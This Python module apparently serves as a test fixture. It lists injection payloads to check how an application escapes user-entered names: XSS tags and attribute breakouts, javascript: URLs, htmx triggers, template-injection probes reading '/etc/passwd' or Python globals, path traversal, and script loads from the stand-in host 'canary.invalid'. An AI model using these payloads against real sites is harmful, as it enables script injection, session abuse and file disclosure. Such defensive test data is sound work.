"""What somebody might type in the hope that it runs, moves or counts; `CANARY` is the host that would hear of it."""

from __future__ import annotations

CANARY = "canary.invalid"
PRODUCT = "971447"
"""What 31337*31 makes: on a page it would mean that a text was read as a template."""

HTML = (
    "<script>alert(1)</script>",
    f"<script src=//{CANARY}/1.js></script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<scr<script>ipt>alert(3)</scr</script>ipt>",
    "<img src=x onerror=alert(4)>",
    f"<img src=//{CANARY}/5.png>",
    "<body onload=alert(6)>",
    f"<iframe src=//{CANARY}/7></iframe>",
    "<iframe srcdoc='<script>alert(8)</script>'>",
    f"<object data=//{CANARY}/9></object>",
    f"<embed src=//{CANARY}/10>",
    f"<base href=//{CANARY}/>",
    f"<meta http-equiv=refresh content='0;url=//{CANARY}/12'>",
    f"<link rel=stylesheet href=//{CANARY}/13.css>",
    f"<style>@import '//{CANARY}/14.css';</style>",
    "<p style='background:red;position:fixed;inset:0'>",
    f"<form action=//{CANARY}/16><button>",
    f"<button formaction=//{CANARY}/17>",
    "<details open ontoggle=alert(18)>",
    "<video><source onerror=alert(19)>",
    "<marquee onstart=alert(20)>",
    "<input autofocus onfocus=alert(21)>",
    "<plaintext>",
    "</textarea><script>alert(23)</script>",
    "</title><script>alert(24)</script>",
    "</select></form></main><h1>25</h1>",
    "<template><script>alert(26)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(27)>'>",
)
ATTRIBUTES = (
    '"><script>alert(28)</script>',
    "'><script>alert(29)</script>",
    '" onmouseover="alert(30)',
    "' onfocus='alert(31)' autofocus='",
    '" autofocus onfocus=alert(32) x="',
    "x onclick=alert(33) y",
    '"/><svg/onload=alert(34)>',
    "`onmouseover=alert(35)",
    '" style="display:block" class="button',
)
ADDRESSES = (
    "javascript:alert(37)",
    "JaVaScRiPt:alert(38)",
    "javascript&colon;alert(39)",
    "data:text/html,<script>alert(40)</script>",
    f"//{CANARY}/41",
    f"https://{CANARY}/42",
    rf"\\{CANARY}\43",
    f"/\\{CANARY}/44",
    f"http://127.0.0.1@{CANARY}/45",
    "vbscript:msgbox(46)",
    "<a href=javascript:alert(47)>x</a>",
)
SCRIPTS = (
    "';alert(48);//",
    '";alert(49);//',
    "\\';alert(50);//",
    "</script><script>alert(51)</script>",
    "${alert(52)}",
    "-alert(53)-",
    "<!--<script>alert(54)//-->",
)
SVG = (
    "<svg onload=alert(55)>",
    "<svg><script>alert(56)</script></svg>",
    "<svg><a xlink:href=javascript:alert(57)><text>x</text></a></svg>",
    f"<svg><image href=//{CANARY}/58.png /></svg>",
    "<svg><animate onbegin=alert(59) attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=alert(60)></mtext></math>",
)
HTMX = (
    f"<div hx-get=//{CANARY}/61 hx-trigger=load>",
    "<div hx-on:click='alert(62)'>",
    "<div hx-on--load=alert(63)>",
    '" hx-get="/account" hx-trigger="load',
    "<hx-partial hx-target=body>65</hx-partial>",
    "<div data-hx-post=/sign-out data-hx-trigger=load>",
    "<p hx-swap-oob=true id=content>67</p>",
)
TEMPLATES = (
    "{{31337*31}}",
    "{% include '/etc/passwd' %}",
    "{{config.__class__.__init__.__globals__}}",
    "{0.__class__.__mro__}",
    "%(inviter)s %(link)s",
    "%s%d%n",
    "${31337*31}",
    "#{31337*31}",
    "<%= 31337*31 %>",
    "{#",
)
ENTITIES = (
    "&lt;script&gt;alert(78)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(79)&#62;",
    "&#x3c;svg onload=alert(80)&#x3e;",
    "%3Cscript%3Ealert(81)%3C/script%3E",
    "<![CDATA[<script>alert(82)</script>]]>",
    "--><script>alert(83)</script><!--",
    "\\u003cscript\\u003ealert(84)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(85)+ADw-/script+AD4-",
)
UNICODE = (
    "＜script＞alert(86)＜/script＞",
    "ʺ><img src=x onerror=alert(87)>",
    "שלום <b>88</b> مرحبا",
    "é<i>89</i>\u0301",
    "🦜<script>alert(90)</script>",
    "ﷺ\u00a0<u>91</u>",
)
FILES = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "con.pdf<img src=x onerror=alert(94)>",
    "=HYPERLINK(1)",
)
PAYLOADS = (
    *HTML, *ATTRIBUTES, *ADDRESSES, *SCRIPTS, *SVG, *HTMX, *TEMPLATES, *ENTITIES, *UNICODE, *FILES
)  # fmt: skip
REFUSED = (
    "\u202e<b>gnirts</b>\u202c",
    "a\u200bb<script>alert(95)</script>",
    "\u2028<script>alert(96)</script>",
    "\ufeff<script>alert(97)</script>",
)
"""These hold characters that no name may have; forms show them again with the reason."""


def chunks(most: int = 190, without: str = "") -> list[str]:
    """All payloads in as few lines of text as a field of a name takes; those with a character of `without` left out."""
    lines = [""]
    for payload in PAYLOADS:
        if set(payload) & set(without):
            continue
        joined = f"{lines[-1]} {payload}".strip()
        if len(joined) <= most:
            lines[-1] = joined
        else:
            lines.append(payload)
    return lines
